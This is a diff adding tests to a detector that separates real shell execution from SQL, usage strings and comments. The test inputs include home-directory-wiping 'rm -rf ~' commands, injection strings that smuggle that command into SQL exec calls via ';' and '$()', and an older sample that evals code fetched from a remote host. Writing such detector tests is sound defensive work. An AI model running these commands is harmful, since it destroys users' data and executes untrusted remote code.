@@ -102,3 +102,30 @@ def test_joined_paths_are_one() -> None:
 
 def test_code_that_runs_what_another_machine_answers_is_hidden() -> None:
     assert uses_of("fetch('https://x.example').then(r => r.text()).then(eval)").hidden
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'db.exec("DELETE FROM sessions WHERE id = 3");',
+        '$pdo->exec("UPDATE a SET x = 1 WHERE id = 2");',
+        'db.exec("INSERT OR IGNORE INTO a VALUES (1)");',
+        "package main\n\nconst usage = `Usage:\n  rm -rf ~/.app   removes all state\n`\n",
+        "// `rm -rf ~/.app` begins again\nexport const x = 1;\n",
+    ],
+)
+def test_statements_of_sql_raw_texts_and_comments_are_no_commands(code: str) -> None:
+    assert uses_of(code).scripts == []
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "$`rm -rf ~`\nexport {}",
+        "#!/usr/bin/perl\nsystem('rm -rf ~');",
+        'exec("DELETE FROM a WHERE b = 1; rm -rf ~")',
+        'exec("SELECT a FROM b WHERE $(rm -rf ~)")',
+    ],
+)
+def test_what_only_looks_like_them_is_run(code: str) -> None:
+    assert any("rm -rf ~" in script for script in uses_of(code).scripts)
